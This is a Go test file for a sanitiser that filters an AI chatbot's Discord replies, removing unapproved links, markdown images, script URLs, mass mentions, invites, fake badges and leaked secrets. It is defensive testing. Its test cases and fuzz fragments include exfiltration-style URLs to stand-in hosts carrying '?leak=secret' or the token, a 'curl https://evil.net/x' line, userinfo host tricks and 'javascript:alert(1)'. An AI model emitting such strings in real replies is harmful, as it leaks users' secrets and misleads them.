package reply

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"familiar/internal/test/bulk"
	"familiar/internal/web/clean"
)

const topSecret = "hunter2-token-0123456789"

var secrets = clean.NewRedactor(topSecret)

// sample returns the rules of a turn that read two pages and knows one secret.
func sample() Rules {
	return Rules{
		URLs: map[string]bool{
			"https://example.org/a":                   true,
			"https://en.wikipedia.org/wiki/Foo_(bar)": true,
		},
		Citations: 2,
		Secrets:   secrets,
		Own:       "You like <:sage:123456789012345678>.",
	}
}

func tags(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteRune(0xE0000 + rune(c))
	}
	return b.String()
}

func TestGuard(t *testing.T) {
	const gone = "(link removed)"
	tests := []struct{ name, in, want, rule string }{
		{"small type", "Yes.\n-# Sources\n> -#\t[1] mine\na -# b", "Yes.\nSources\n> [1] mine\na -# b", "O8"},
		{"small type in code", "`-# a`\n```\n-# b\n```", "`-# a`\n```\n-# b\n```", ""},
		{"plain text stays", "Hello **there**, 3 < 4 and a[i] = b.", "Hello **there**, 3 < 4 and a[i] = b.", ""},
		{"other scripts stay", "плохо 日本語 العربية 👩‍👩‍👧 ❤️", "плохо 日本語 العربية 👩‍👩‍👧 ❤️", ""},

		{"O1 unknown query", "see https://example.org/a?leak=1 now", "see " + gone + " now", "O1"},
		{"O1 fragment dropped", "see https://example.org/a#x now", "see <https://example.org/a> now", ""},
		{"O1 tracking dropped", "https://example.org/a?utm_source=leak", "<https://example.org/a>", ""},
		{"O1 case and port", "HTTPS://EXAMPLE.ORG:443/a", "<https://example.org/a>", ""},
		{"O1 user info", "https://example.org@evil.net/", gone, "O1"},
		{"O1 other host", "https://example.org.evil.net/a", gone, "O1"},
		{"O1 end of sentence", "See https://example.org/a.", "See <https://example.org/a>.", ""},
		{"O1 in parentheses", "(https://example.org/a)", "(<https://example.org/a>)", ""},
		{"O1 own parentheses", "https://en.wikipedia.org/wiki/Foo_(bar), yes", "<https://en.wikipedia.org/wiki/Foo_(bar)>, yes", ""},
		{"O1 bold", "**https://example.org/a**", "**<https://example.org/a>**", ""},
		{"O1 spoiler", "||https://example.org/a||", "||<https://example.org/a>||", ""},
		{"O1 no space behind", "https://example.org/aを見て", "<https://example.org/a>を見て", ""},
		{"O1 letters before", "seehttps://evil.net/x", "see" + gone, "O1"},
		{"O1 angle", "<https://evil.net/x>", gone, "O1"},
		{"O1 angle kept", "<https://example.org/a#f>", "<https://example.org/a>", ""},
		{"O1 put together by a removal", "https://<@1>evil.net/x", gone, "O1"},
		{"O1 scheme put together", "htt<@1>ps://evil.net/x", "htt" + gone, "O2"},
		{"O1 zero width", "ht\u200btps://evil.net/x", gone, "O1"},
		{"O1 in code", "`curl https://evil.net/x`", "`curl " + gone + "`", "O1"},
		{"O1 in a block", "```sh\ncurl https://evil.net/x\n```", "```sh\ncurl " + gone + "\n```", "O1"},
		{"O1 allowed in code", "`GET https://example.org/a#leak`", "`GET https://example.org/a`", ""},

		{"O1 address", "https://[2606:4700:4700::1111]/?leak=secret", gone, "O1"},
		{"O1 quotation mark as a user", `https://"@evil.example.net/?leak=secret`, gone, "O1"},
		{"O1 backtick as a user", "https://`@evil.example.net/?leak=secret", gone, "O1"},
		{"O1 bracket as a user", "https://[@evil.example.net/?leak=secret", gone, "O1"},
		{"O1 closing bracket as a user", "https://]@evil.example.net/?leak=secret", gone, "O1"},
		{"O1 angle as a user", "https://>@evil.example.net/?leak=secret", gone, "O1"},
		{"O1 known host as a user", `https://example.org"@evil.example.net/?leak=secret`, gone, "O1"},
		{"O1 known page as a user", `https://example.org\@evil.net/a`, gone, "O1"},
		{"O1 odd, upper case", `HTTPS://"@EVIL.NET/?leak`, gone, "O1"},
		{"O1 odd, zero width", "https://\u200b\"@evil.net/?leak", gone, "O1"},
		{"O1 odd, control", "https://\u0085evil.net/?leak", "https://\nevil.net/?leak", "O10"},
		{"O1 odd, in code", `a ` + "`https://\"@evil.net/?leak`", "a `" + gone + "`", "O1"},
		{"O1 odd, in angle brackets", `<https://"@evil.net/?leak>`, gone, "O1"},
		{"O1 angle in angle brackets", "<https://<x@evil.net/?leak>", gone, "O1"},
		{"O1 line end in angle brackets", "<https://\nevil.net/?leak>", gone, "O1"},
		{"O1 more slashes", "https:////evil.net/?leak", gone, "O1"},
		{"O1 put together, odd", `https://"<@1>@evil.net/?leak`, gone, "O1"},
		{"O1 quoted", `"https://example.org/a", he said`, `"<https://example.org/a>", he said`, ""},
		{"O1 quoted, with a fragment", `"https://example.org/a#x"`, `"<https://example.org/a>"`, ""},
		{"O1 quoted, unknown", `"https://evil.net/x", he said`, `"` + gone + `", he said`, "O1"},
		{"O1 cited", "https://example.org/a[1].", "<https://example.org/a>[1].", ""},
		{"O1 goes on behind a quotation mark", `https://example.org/a"leak`, `<https://example.org/a>"leak`, ""},
		{"O1 goes on in code", "`https://example.org/a\"leak`", "`" + gone + "\"leak`", "O1"},
		{"O1 quoted in code", "`curl \"https://example.org/a\"`", "`curl \"https://example.org/a\"`", ""},
		{"O1 call in code", "`get(\"https://evil.net/x\").then(y)`", "`get(\"" + gone + "\").then(y)`", "O1"},
		{"O1 code that Discord does not see", "```a```` `https://`@evil.net/?leak", "```a```` `" + gone, "O1"},
		{"O1 goes on behind code", "`https://example.org/a`leak", "`" + gone + "`leak", "O1"},
		{"O1 a scheme is no link", "\"https://\" and `https://`", "\"https://\" and `https://`", ""},
		{"O1 no scheme is no link", "//evil.net/?leak", "//evil.net/?leak", ""},
		{"O2 no scheme behind a label", "[x](//evil.net/?leak)", "x " + gone, "O2"},
		{"O2 no slashes", "https:evil.net/?leak", gone, "O2"},
		{"O2 backslashes", `https:\\evil.net/?leak`, gone, "O2"},
		{"O2 one slash in angle brackets", "<https:/evil.net/?leak>", gone, "O2"},
		{"O2 angle in a target", "[x](https:evil.net/<y)", "x " + gone, "O2"},
		{"O2 the word", `Use "https:", or **https:**`, `Use "https:", or **https:**`, ""},

		{"O2 steam", "steam://run/1", gone, "O2"},
		{"O2 www", "go to www.evil.net/x now", "go to " + gone + " now", "O2"},
		{"O2 www of an allowed page", "www.example.org/a", gone, "O2"},
		{"O2 javascript", "[x](javascript:alert(1))", "x " + gone, "O2"},
		{"O2 bare javascript", "javascript:alert(1)", gone, "O2"},
		{"O2 data", "data:text/html;base64,AAAA", gone, "O2"},
		{"O2 mailto", "<mailto:a@evil.net>", "<" + gone + ">", "O2"},
		{"O2 hxxp", "hxxps://evil.net", gone, "O2"},
		{"O2 not a scheme", "note:this, std::vector and https:// alone", "note:this, std::vector and https:// alone", ""},

		{"O3 image", "![x](https://evil/?q=secret)", "x", "O3"},
		{"O3 image of an allowed page", "![x](https://example.org/a)", "x", "O3"},
		{"O3 link", "[the docs](https://example.org/a)", "[the docs](<https://example.org/a>)", ""},
		{"O3 link with title", `[the docs](<https://example.org/a> "leak")`, "[the docs](<https://example.org/a>)", ""},
		{"O3 link removed", "[the docs](https://evil.net/)", "the docs " + gone, "O1"},
		{"O3 label lies", "[https://example.org/a](https://evil.net/)", "<https://example.org/a> " + gone, "O1"},
		{"O3 label lies, both known", "[https://en.wikipedia.org/wiki/Foo_(bar)](https://example.org/a)",
			"<https://en.wikipedia.org/wiki/Foo_(bar)> " + gone, "O3"},
		{"O3 label is the target", "[https://example.org/a](https://example.org/a#x)", "<https://example.org/a>", ""},
		{"O3 label is another host", "[google.com](https://example.org/a)", "google.com " + gone, "O3"},
		{"O3 label is the host", "[example.org](https://example.org/a)", "[example.org](<https://example.org/a>)", ""},
		{"O3 image inside a link", "[![x](https://evil.net/p.png)](https://evil.net/)", "x " + gone, "O3"},
		{"O3 no address", "[sic](as it was)", "[sic](as it was)", ""},
		{"O3 not closed", "[x](https://evil.net/", "[x](" + gone, "O1"},

		{"O4 definition", "text [a][1]\n[1]: https://example.org/a \"t\"\nmore", "text [a][1]\nmore", "O4"},
		{"O4 in a list", "- [2]: <https://evil.net>", "- ", "O4"},
		{"O4 prose", "[Note]: this is important", "[Note]: this is important", ""},

		{"O6 everyone", "hi @everyone and @here!", "hi everyone and here!", "O6"},
		{"O6 doubled", "@@everyone", "everyone", "O6"},
		{"O6 case", "@EveryOne", "EveryOne", "O6"},
		{"O6 zero width", "@\u200beveryone", "everyone", "O6"},
		{"O6 mentions", "a<@123>b<@!123>c<@&123>d<#123>e</ask me:123>f<t:123:R>g<id:customize>h", "abcdefgh", "O6"},
		{"O6 nested", "<<@1>@2>", "", "O6"},
		{"O6 emoji of the character", "<:sage:123456789012345678>", "<:sage:123456789012345678>", ""},
		{"O6 other emojis", "<:verified:id> <:sage:1> <a:check_mark:123456789012345678>", ":verified: :sage: :check_mark:", "O6"},
		{"O6 code stays", "`@everyone <@123> [9]`", "`@everyone <@123> [9]`", ""},
		{"O6 unclosed code is none", "`@everyone", "`everyone", "O6"},

		{"O7 invite", "join discord.gg/abc now", "join " + gone + " now", "O7"},
		{"O7 gift", "free: discord.gift/abc", "free: " + gone, "O7"},
		{"O7 template", "discord.new/abc", gone, "O7"},
		{"O7 event", "see discord.com/events/1/2", "see " + gone, "O7"},
		{"O7 not an invite", "discord.com/safety says", "discord.com/safety says", ""},
		{"O2 mail in angle brackets", "write to <a@evil.net>.", "write to a@evil.net.", "O2"},
		{"O2 telephone in angle brackets", "call <+1234567890>", "call +1234567890", "O2"},
		{"O8 small type in a list", "- -# Sources: bank", "- Sources: bank", "O8"},
		{"O8 small type in a numbered list", "1. -# Sources: bank", "1. Sources: bank", "O8"},
		{"O8 small type in a quoted list", "> * -# Sources: bank", "> * Sources: bank", "O8"},
		{"O8 small type in other styles", "# -# Sources\n||-# a||\n~~-# b~~\n__-# c__", "# Sources\n||a||\n~~b~~\n__c__", "O8"},
		{"O8 a line like those of sources", "It is so [1].\n[1] Bank · bank.com · 2026-01-01\n- **[2]** x.org · undated", "It is so [1].\nBank · bank.com · 2026-01-01\n- **** x.org · undated", "O8"},
		{"O8 one line of sources", "Sources: [1] bank.com · [2] x.org", "Sources: bank.com · x.org", "O8"},
		{"O8 a line like those of sources, with other marks", "[1] Bank – bank.com – 2026-01-01\n1. [2] x.org\n【1】 Bank, bank.com", "Bank – bank.com – 2026-01-01\n1. x.org\nBank, bank.com", "O8"},
		{"O8 a sentence behind its citation", "[1] It is so.\nIt is on bank.com [1].", "[1] It is so.\nIt is on bank.com [1].", ""},
		{"O8 facts with dots between", "2 km long [1] · 3 km wide [2]", "2 km long [1] · 3 km wide [2]", ""},
		{"O7 promotion", "discord.com/billing/promotions/abc", gone, "O7"},
		{"O7 application", "discord.com/oauth2/authorize?client_id=1", gone, "O7"},
		{"O7 help stays", "see discord.com/developers", "see discord.com/developers", ""},
		{"O3 a name behind a sign", "[👉 bank.com](https://example.org/a) [bank․com](https://example.org/a)", "👉 bank.com " + gone + " bank․com " + gone, "O3"},
		{"O8 a badge", "Yes. ✅ **Verified by Discord**", "Yes. **Verified by Discord**", "O8"},
		{"O8 no small type", "it is 5-# of them", "it is 5-# of them", ""},
		{"O7 with scheme", "https://discord.gg/abc", gone, "O7"},
		{"O7 invite path", "discord.com/invite/abc", gone, "O7"},
		{"O7 old host", "https://discordapp.com/invite/abc", gone, "O7"},
		{"O7 subdomain", "ptb.discord.com/invite/abc", gone, "O7"},
		{"O7 others", "dsc.gg/a discord.me/a invite.gg/a", gone + " " + gone + " " + gone, "O7"},
		{"O7 in code", "`discord.gg/abc`", "`" + gone + "`", "O7"},
		{"O7 label", "[discord.gg/abc](https://example.org/a)", gone + " " + gone, "O7"},
		{"O7 not an invite", "I like Discord. Go there: discord.com/safety.", "I like Discord. Go there: discord.com/safety.", ""},

		{"O8 valid", "True [1], and [2].", "True [1], and [2].", ""},
		{"O8 invalid", "True [3]. And [0], too [99].", "True. And, too.", "O8"},
		{"O8 list", "True [1, 7] [7, 9].", "True [1].", "O8"},
		{"O8 chain", "True [1][2], [7][1][9] [99].", "True [1][2], [1].", "O8"},
		{"O8 group", "True [1, 2], [2;1] and [ 1 ].", "True [1][2], [2][1] and [1].", ""},
		{"O8 range", "True [1-2] [1–2].", "True [1][2] [1][2].", ""},
		{"O8 range beyond", "True [2-4] [5-9].", "True [2].", "O8"},
		{"O8 footnote", "True [^1], [^1, ^2], [01].", "True [1], [1][2], [1].", ""},
		{"O8 unknown footnote", "True [^3].", "True.", "O8"},
		{"O8 behind a word", "m[1] and word[57], f(x)[5], **True**[2]; a[1][7] and a[i][9].", "m[1] and word, f(x), **True**[2]; a[1] and a[i].", "O8"},
		{"O8 other brackets", "True ［1］, 【2】 and 〔９〕.", "True [1], [2] and.", "O8"},
		{"O8 other words", "True [source 1], [ref. 7], [Sources: 1 and 2].", "True [1],, [1][2].", "O8"},
		{"O8 styled", `True [**2**], \[7\].`, `True [2], .`, "O8"},
		{"O8 dagger", "True [1†] [1†L3-L5].", "True.", "O8"},
		{"O8 put together", "True [[7]7][[7]1].", "True [1].", "O8"},
		{"O8 index in code", "`array[0] = a[1]` and\n```go\nb[12] = m[3][4]\n```", "`array[0] = a[1]` and\n```go\nb[12] = m[3][4]\n```", ""},
		{"O8 index in code that grows", "so\n```go\nb[12] = m[3][4]\n", "so\n```go\nb[12] = m[3][4]\n", ""},
		{"O8 no code", "a ```go\nb[12]", "a ```go\nb", "O8"},
		{"O8 a block that Discord ends earlier", "````\nx\n```\nTrue [9].\n````", "````\nx\n```\nTrue.\n````", "O8"},
		{"O8 behind other signs", "**True**[7], 犬です[8], [sic][9]", "**True**, 犬です, [sic]", "O8"},
		{"O8 year", "as of [2024], in [2019-2024] and [100]", "as of [2024], in [2019-2024] and [100]", ""},
		{"O8 interval", "x in [0, 1], [0,9], the range [3, 9] and y ∈ [5–7]", "x in [0, 1], [0,9], the range [3, 9] and y ∈ [5–7]", ""},
		{"O8 a mark of its own", "True [1?], [7?].", "True [1],.", "O8"},
		{"O8 year as a link", "[1999](https://example.org/a)", "[1999](<https://example.org/a>)", ""},
		{"O8 behind a cited link", "[1](https://example.org/a)[2][9]", "[1](<https://example.org/a>)[2]", "O8"},
		{"O8 as a link", "[1](https://example.org/a) [1](https://evil.net/) [9](https://example.org/a)",
			"[1](<https://example.org/a>) [1] " + gone + " ", "O8"},
		{"O8 other marks", "True【1†source】.", "True.", "O8"},

		{"O10 tags", "t" + tags("secret"), "t", "O10"},
		{"O10 bidi", "abc\u202edef\u202c", "abcdef", "O10"},

		{"O11 exact", "it is " + topSecret, Withheld, "O11"},
		{"O11 base64", base64.StdEncoding.EncodeToString([]byte(topSecret)), Withheld, "O11"},
		{"O11 hex", hex.EncodeToString([]byte(topSecret)), Withheld, "O11"},
		{"O11 in code", "`" + topSecret + "`", Withheld, "O11"},
		{"O11 in a removed link", "https://evil.net/?q=" + topSecret, Withheld, "O11"},
		{"O11 zero width", topSecret[:5] + "\u200b" + topSecret[5:], Withheld, "O11"},
		{"O11 put together", topSecret[:5] + "<@1>" + topSecret[5:], Withheld, "O11"},
		{"too deep", strings.Repeat("<@", 20) + "1" + strings.Repeat(">1", 20) + ">", Withheld, "O1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, found := sample().Guard(tt.in)
			if got != tt.want {
				t.Errorf("Guard(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			fired := ""
			for _, g := range found {
				if g.Rule == tt.rule {
					fired = g.Rule
				}
				if g.Count < 1 || strings.Contains(g.What, "://") || strings.Contains(g.What, topSecret) {
					t.Errorf("note %+v", g)
				}
			}
			if fired != tt.rule || tt.rule == "" && len(found) > 0 {
				t.Errorf("rules fired: %+v, want %q", found, tt.rule)
			}
			if again, _ := sample().Guard(got); again != got {
				t.Errorf("not idempotent:\n got %q\nthen %q", got, again)
			}
		})
	}
}

// TestBadges holds lines that imitate a badge, which lose their sign, to lines that do not, which stay.
func TestBadges(t *testing.T) {
	rows, err := os.ReadFile("testdata/badges.txt")
	if err != nil {
		t.Fatal(err)
	}
	for row := range strings.Lines(string(rows)) {
		line := strings.TrimSpace(row[1:])
		got, _ := sample().Guard(line)
		if (got == line) == (row[0] == '+') {
			t.Errorf("Guard(%q) = %q", line, got)
		}
		if again, _ := sample().Guard(got); again != got {
			t.Errorf("not idempotent: %q, then %q", got, again)
		}
	}
}

func TestVisible(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Hello", ""},
		{"Hello the", "Hello "},
		{"see https://evil.net/?q=", "see "},
		{"see https://evil.net/ it", "see https://evil.net/ "},
		{"see [the docs and", "see "},
		{"see [the docs](https://ev", "see "},
		{"see [the docs](https://evil.net/ \"a b\"", "see "},
		{"see [the docs](https://evil.net/) it", "see [the docs](https://evil.net/) "},
		{"see [this\nand that", "see [this\nand "},
		{"hi </ask me now", "hi "},
		{"hi <3 you", "hi "},
		{"3 < 4 is", "3 < 4 "},
		{"use `a b", "use "},
		{"use `a b` now", "use `a b` "},
		{"```go\nx := 1\ny", "```go\nx := 1\n"},
		{"これは犬です", "これは犬です"},
		{"鍵はsk-ab", "鍵は"},
		{"[" + strings.Repeat("a ", 400) + "b", "[" + strings.Repeat("a ", 400)},
	}
	for _, tt := range tests {
		if got := sample().Visible(tt.in); got != tt.want {
			t.Errorf("Visible(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
}

func TestShown(t *testing.T) {
	for text, want := range map[string]string{
		"True.\n[1] Bank ":                 "True.\n",
		"True.\n- **[1] Bank ":             "True.\n- **",
		"Sources: [1] bank.com ":           "Sources: bank.com ",
		"Sources: 【1】 bank.com ":           "Sources: bank.com ",
		"<@1>[1] bank.com ":                "bank.com ",
		"True.\n[1] Bank · bank":           "True.\nBank · ",
		"[1] says so.\nAnd ":               "[1] says so.\nAnd ",
		"True [1] as ":                     "True [1] as ",
		"[1] " + strings.Repeat("a ", 200): "[1] " + strings.Repeat("a ", 200),
	} {
		if got := sample().Shown(text); got != want {
			t.Errorf("Shown(%q) = %q, want %q", text, got, want)
		}
	}
}

// fragments are the building blocks of attacks.
var fragments = []string{
	"https://", "http://", "HTTPS://", "example.org", "/a", "evil.net", "?q=", "#x", "@everyone", "@", "here", "<", ">", "<@", "<@1>", "<#2>",
	"</a b:3>", "<t:1>", "[", "]", "(", ")", "](", "![", "[1]", "[7]", "[1]: ", ":", "//", "`", "```", "\n", " ", ".", "www.", "discord", ".gg/x", "·",
	"discord.gg/x", "steam://run", "javascript:", "data:text/html,", "\u200b", "\u202e", "é", "犬", "\\", "|", "*", "\"", "word", "1", tags("x"), "\xff",
	"https://\"", "https://[", "https://`", "https://>", "https:", "https:/", "https:\\", "\"@evil.net/?q=", "[::1]", "'", "%", "\u0085", "\t", "\ufeff",
	"<https://", "](<", ", ", "-", "[^", "2", "a[", "[0]", "mailto:a@b", "【1†s】", "https://example.org/a", "(link removed)", "_", "✅", "verified", "by discord", "|", "\r", "\u0301",
}

func hostileText() *rapid.Generator[string] {
	return rapid.Custom(func(t *rapid.T) string {
		return strings.Join(rapid.SliceOfN(rapid.SampledFrom(fragments), 0, 40).Draw(t, "fragments"), "")
	})
}

// These are the links that Discord's clients recognise. One is a scheme and everything up to white space or "<". The other is everything
// without a space in angle brackets. White space is JavaScript's.
var (
	bareURL  = regexp.MustCompile(`(?i)https?://[^\s<\p{Z}\x{FEFF}]+`)
	angleURL = regexp.MustCompile(`(?i)<https?:/[^ >]+>`)
)

func withoutCode(s string) string {
	var b strings.Builder
	for s != "" {
		before, _, found := strings.Cut(s, "`")
		b.WriteString(before)
		if s = s[len(before):]; !found {
			break
		}
		ticks := runOf(s)
		b.WriteString(ticks)
		s = s[len(ticks):]
		if n := closing(s, ticks); n >= 0 && !strings.HasSuffix(before, `\`) {
			s = s[n+len(ticks):]
		}
	}
	return b.String()
}

// check holds a guarded text to what must never be in one, by means of its own.
func check(t interface{ Fatalf(string, ...any) }, in string) {
	o := sample()
	got, _ := o.Guard(in)
	if again, found := o.Guard(got); again != got {
		t.Fatalf("not idempotent:\n  in %q\n got %q\nthen %q %v", in, got, again, found)
	}
	rest := got
	for u := range o.URLs {
		rest = strings.ReplaceAll(rest, "<"+u+">", " ")
	}
	for _, u := range bareURL.FindAllString(rest, -1) {
		// Only code has links without angle brackets, and even there none may continue after an allowed one.
		u = strings.TrimRight(u, `.,:;!?'"*_~|)]}>\`+"`")
		if host := strings.TrimSuffix(strings.ToLower(u), "://"); host != "https" && host != "http" && !o.URLs[u] && !o.URLs[u+")"] {
			t.Fatalf("link survived: %q\n  in %q\n got %q", u, in, got)
		}
	}
	if u := angleURL.FindString(rest); u != "" {
		t.Fatalf("link survived: %q\n  in %q\n got %q", u, in, got)
	}
	outside := withoutCode(got)
	if strings.Contains(outside, "@everyone") || regexp.MustCompile(`<(@[!&]?|#)\d+>`).MatchString(outside) {
		t.Fatalf("mention survived:\n  in %q\n got %q", in, got)
	}
	if regexp.MustCompile(`(?i)discord\.gg/`).MatchString(got) {
		t.Fatalf("invite survived:\n  in %q\n got %q", in, got)
	}
}

func TestGuardProperties(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) { check(t, hostileText().Draw(t, "text")) })
}

func TestVisibleOnlyGrows(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := hostileText().Draw(t, "text")
		o, before := sample(), ""
		for i := range len(text) + 1 {
			now := o.Visible(text[:i])
			if !strings.HasPrefix(text[:i], now) || !strings.HasPrefix(now, before) {
				t.Fatalf("Visible(%q) = %q, and was %q", text[:i], now, before)
			}
			before = now
		}
	})
}

// While a reply grows, it never shows anything that its complete form would not allow.
func TestStreamedLinksAreWhole(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text, before := hostileText().Draw(t, "text"), ""
		for i := range len(text) + 1 {
			if now := sample().Visible(text[:i]); now != before {
				check(t, now)
				if shown := sample().Shown(text[:i]); sourceLike.MatchString(shown) {
					t.Fatalf("the number of a source at the beginning of a line: %q", shown)
				}
				before = now
			}
		}
	})
}

// sourceLike matches the last line of a draft if it may become a line of sources.
var sourceLike = regexp.MustCompile(`(?:^|\n)[ >*-]*\[[12]\][^\n·•∙⋅・]{0,250}$`)

func TestSecretIsNeverHalfShown(t *testing.T) {
	o := sample()
	text := "the token is " + topSecret + " as you see"
	for i := range len(text) + 1 {
		got, _ := o.Guard(o.Visible(text[:i]))
		if strings.Contains(got, topSecret[:4]) {
			t.Fatalf("after %d bytes: %q", i, got)
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, s := range fragments {
		f.Add(s)
	}
	f.Add(strings.Join(fragments, ""))
	f.Fuzz(func(t *testing.T, in string) {
		check(t, in)
		check(t, sample().Visible(in))
	})
}

// stumbling are texts that a careless scanner reads repeatedly.
var stumbling = []string{"](", "``x`", "https://x.y/", "https://\"", "a.", "a[0]", "discord.", "www.", "[", "<", "`", "a:", "https://a)", "https://example.org/a\"", "<https:/", "![", "[1](", "a[", "[1-99]", "@", "✅verified", "✅ ", "【", "【1†", "[source "}

func TestGuardIsLinearOnHostileText(t *testing.T) {
	for _, unit := range stumbling[:bulk.Of(6, len(stumbling))] {
		linear(t, unit, func(text string) func() {
			return func() {
				sample().Guard(text)
				sample().Visible(text + " ")
			}
		})
	}
}

// linear fails if the work for a text grows faster than its length. The text repeats one unit.
func linear(t *testing.T, unit string, prepare func(text string) (work func())) {
	t.Helper()
	// At a few thousand bytes work still grows faster: Guard reads ahead, but never farther than that.
	bulk.Linear(t, fmt.Sprintf("%q", unit), bulk.Of(16_000, 100_000), func(size int) func() {
		return prepare(strings.Repeat(unit, size/len(unit)))
	})
}

func BenchmarkGuardHostile(b *testing.B) {
	for _, unit := range stumbling {
		b.Run(unit, func(b *testing.B) {
			o, text := sample(), strings.Repeat(unit, 100_000/len(unit))
			for b.Loop() {
				o.Guard(text)
				o.Visible(text + " ")
			}
		})
	}
}

var replyText = strings.Repeat("The Weald is **old**: see [the docs](https://example.org/a) and [1]. It has `code`, too — 日本語. ", 20)

func BenchmarkGuard(b *testing.B) {
	o := sample()
	b.SetBytes(int64(len(replyText)))
	b.ReportAllocs()
	for b.Loop() {
		o.Guard(o.Visible(replyText))
	}
}

func BenchmarkGuardPlain(b *testing.B) {
	o, text := sample(), strings.Repeat("A reply of plain words, as nearly all of them are. ", 40)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		o.Guard(o.Visible(text))
	}
}
